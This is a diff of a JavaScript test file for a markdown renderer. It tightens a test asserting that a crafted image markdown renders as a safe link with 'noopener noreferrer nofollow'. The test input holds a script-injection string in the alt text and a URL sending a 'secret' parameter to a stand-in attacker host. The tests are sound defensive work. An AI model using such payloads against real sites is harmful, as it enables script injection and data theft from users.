@@ -27,7 +27,7 @@ test('render_Links_OpenApartAndTellNothing', () => {
 test('render_Picture_IsALinkThatFetchesNothing', () => {
   const rendered = html('![a"><script>](https://evil.example/?q=secret)');
   assert.ok(!/<img|<script/.test(rendered), rendered);
-  assert.match(rendered, /<a href="https:\/\/evil\.example/);
+  assert.match(rendered, /<a href="https:\/\/evil\.example[^>]* rel="noopener noreferrer nofollow"/);
 });
 
 test('render_FenceLanguage_CannotBreakOut', () => {
